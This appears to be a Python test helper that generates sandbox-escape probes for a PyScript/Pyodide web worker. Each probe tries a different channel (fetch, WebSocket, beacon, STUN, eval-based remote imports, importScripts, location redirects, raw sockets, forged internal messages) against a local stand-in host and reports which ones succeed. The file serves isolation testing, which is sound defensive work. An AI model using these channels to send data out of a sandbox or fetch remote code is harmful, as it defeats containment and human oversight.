"""Programs that try to get out: each reports to the page's own server what it got by every way."""

from __future__ import annotations

import json
from urllib.parse import unquote

REPORT = "js/boot.js?report="

_COMMON = """
import asyncio, json
import js
from pyodide.ffi import create_proxy, jsnull, to_js
ELSEWHERE, SITE = "<elsewhere>", "<site>"
got, tries = {}, []
def way(name):
    return lambda function: tries.append((name, function))
def as_js(value):
    return to_js(value, dict_converter=js.Object.fromEntries)
async def try_all():
    for name, function in tries:
        try:
            result = function()
            if hasattr(result, "__await__"):
                result = await asyncio.wait_for(result, 5)
            got[name] = f"done: {result!r}"
        except BaseException as error:
            got[name] = f"{type(error).__name__}: {error}"
        got[name] = got[name][:120]
    await js.fetch(SITE + "js/boot.js?report=" + js.encodeURIComponent(json.dumps(got)))
"""

# by PyScript's reflect function of the page's window: 9 gets, 16 sets, 5 calls, 6 constructs, 2 evaluates
BY_THE_PAGE = """
from pyscript import sync
def reflect(*given):
    return getattr(sync, "=59317780")(*[each if isinstance(each, str) else as_js(each) for each in given])
async def get(of, name):
    return (await reflect(9, of, [0, name])).to_py()
async def window(name):
    return await get(jsnull, name)
async def call(this, name, *given):
    function = await get(this[1] if this else jsnull, name)
    return (await reflect(5, function[1], this or jsnull, list(given)))
async def element(name, **attributes):
    page = await window("document")
    made = (await call(page, "createElement", name)).to_py()
    for key, value in attributes.items():
        await call(made, "setAttribute", key, value)
    await call(await get(page[1], "head"), "append", made)
    return made
@way("read the page")
async def _():
    return str(await reflect(9, (await window("document"))[1], [0, "title"]))
@way("write the page")
async def _():
    await reflect(16, (await window("document"))[1], [0, "title"], "rewritten")
@way("evaluate")
async def _():
    await reflect(2, jsnull, "() => { document.title = 'rewritten'; }")
@way("open a window")
async def _():
    await call(None, "open", ELSEWHERE + "open")
@way("STUN")
async def _():
    server = [2, {"urls": "stun:" + ELSEWHERE.split("/")[2]}]
    options = [2, {"iceServers": [4, [server]]}]
    pc = (await reflect(6, (await window("RTCPeerConnection"))[1], [options])).to_py()
    await call(pc, "createDataChannel", "x")
    await call(pc, "setLocalDescription")
@way("beacon")
async def _():
    await call(await window("navigator"), "sendBeacon", ELSEWHERE + "beacon")
for rel in ("prefetch", "preconnect", "dns-prefetch", "stylesheet", "modulepreload"):
    way(rel)(lambda rel=rel: element("link", rel=rel, href=ELSEWHERE + rel))
@way("image")
async def _():
    await element("img", src=ELSEWHERE + "image")
@way("link with a ping, and a download")
async def _():
    await call(await element("a", href=ELSEWHERE + "a", ping=ELSEWHERE + "ping", target="x"), "click")
    await call(await element("a", href=SITE + "js/boot.js", download="x"), "click")
@way("form")
async def _():
    await call(await element("form", action=ELSEWHERE + "form", target="x"), "submit")
@way("script of the page")
async def _():
    await sync.importJS(ELSEWHERE + "script.js", "script")
@way("style sheet of the page")
async def _():
    await sync.importCSS(ELSEWHERE + "style.css")
@way("assign the location")
async def _():
    await call(await window("location"), "assign", ELSEWHERE + "assign")
@way("set the location")
async def _():
    await reflect(16, (await window("location"))[1], [0, "href"], ELSEWHERE + "href")
asyncio.ensure_future(try_all())
"""

# by what a worker has itself
BY_ITSELF = """
import sys
import pyodide_js
async def opened(target):
    told = asyncio.get_running_loop().create_future()
    for kind in ("open", "message", "error"):
        target.addEventListener(kind, create_proxy(lambda event: told.done() or told.set_result(event.type)))
    if await asyncio.wait_for(told, 5) == "error":
        raise OSError("error event")
way("fetch")(lambda: js.fetch(ELSEWHERE + "fetch"))
post = as_js({"method": "POST", "body": "x", "mode": "no-cors", "keepalive": True})
way("fetch, no-cors")(lambda: js.fetch(ELSEWHERE + "post", post))
way("WebSocket")(lambda: opened(js.WebSocket.new(ELSEWHERE.replace("http", "ws") + "socket")))
way("EventSource")(lambda: opened(js.EventSource.new(ELSEWHERE + "events")))
way("WebTransport")(lambda: js.WebTransport.new(ELSEWHERE.replace("http", "https") + "transport").ready)
way("font")(lambda: js.FontFace.new("x", "url(" + ELSEWHERE + "font)").load())
way("importScripts")(lambda: js.importScripts(ELSEWHERE + "script.js"))
text = "import('" + ELSEWHERE + "module.js')"
way("eval")(lambda: js.eval(text))
way("Function")(lambda: js.Function.new("return " + text)())
way("AsyncFunction")(lambda: js.Reflect.getPrototypeOf(pyodide_js.loadPackage).constructor.new(text)())
way("timer with text")(lambda: js.setTimeout("fetch('" + ELSEWHERE + "timer')", 0))
@way("XMLHttpRequest")
def _():
    request = js.XMLHttpRequest.new()
    request.open("GET", ELSEWHERE + "xhr", False)
    request.send()
@way("urllib")
def _():
    import urllib.request
    urllib.request.urlopen(ELSEWHERE + "urllib", timeout=3)
@way("socket")
def _():
    import socket
    host, port = ELSEWHERE.split("/")[2].split(":")
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as packets:
        packets.sendto(b"x", (host, int(port)))
@way("location")
def _():
    js.location.href = ELSEWHERE + "href"
@way("beacon")
def _():
    js.navigator.sendBeacon(ELSEWHERE + "beacon")
for name in <absent>:
    way("self." + name)(lambda name=name: getattr(js, name))
for name in <absent of navigator>:
    way("navigator." + name)(lambda name=name: getattr(js.navigator, name))
@way("doors that the prototypes still have")
def _():
    found, owner = [], js.self
    while owner:
        found += [name for name in js.Reflect.ownKeys(owner).to_py() if name in <absent>]
        owner = js.Reflect.getPrototypeOf(owner)
    return found or LookupError("none")
@way("PyScript")
def _():
    import pyscript
@way("the modules that PyScript gives")
def _():
    import _pyscript
def forged():
    for message in (
        "polyscript:done", None, 0, "", [], [1, "x"],
        ["", "=59317780", [9, None, [0, "location"]]], [None, [1, 2], -1],
        {"kobai": "x"}, {"kobai": {"failed": "x", "why": "forged"}}, {"kobai": {"lock": "kobai-forged"}},
        {"kobai": {"ready": True}}, {"kobai": {"again": "x", "tried": 1, "tries": 2}},
        {"kobai": {"file": "forged", "bytes": 1}}, {"answer": 999, "reply": ["{}"]},
        {"answer": "1", "reply": ["{}"]}, {"answer": {}, "failed": "forged"}, {"answer": True},
        {"kind": "kept"}, {"kind": "training", "probabilities": [1]},
        {"ID": "x", "data": [0, "importJS", []]},
    ):
        js.postMessage(as_js(message))
    js.postMessage(js.Error.new("forged"))
    js.setTimeout(create_proxy(lambda: js.Reflect.apply(None, None, None)), 0)
way("forged messages")(forged)
asyncio.ensure_future(try_all())
"""
ABSENT = [
    "indexedDB", "caches", "Worker", "SharedWorker", "BroadcastChannel", "RTCPeerConnection", "document",
    "window", "parent", "top", "opener", "localStorage", "sessionStorage", "cookieStore", "kobaiKeyval",
    "webkitRequestFileSystem", "webkitRequestFileSystemSync", "Notification",
]  # fmt: skip
ABSENT_OF_NAVIGATOR = [
    "locks",
    "storage",
    "storageBuckets",
    "serviceWorker",
    "sendBeacon",
    "credentials",
    "share",
]


def program(ways: str, port: int, site: str) -> str:
    """One of the two above, for a server elsewhere and the page's own."""
    filled = _COMMON + ways
    for place, value in (
        ("elsewhere", f"http://127.0.0.1:{port}/"),
        ("site", site),
        ("absent", str(ABSENT)),
        ("absent of navigator", str(ABSENT_OF_NAVIGATOR)),
    ):
        filled = filled.replace(f"<{place}>", value)
    return filled


def reported(url: str) -> dict[str, str]:
    """What each way got: "done: …", or the name and text of an exception."""
    return json.loads(unquote(url.split(REPORT)[1]))
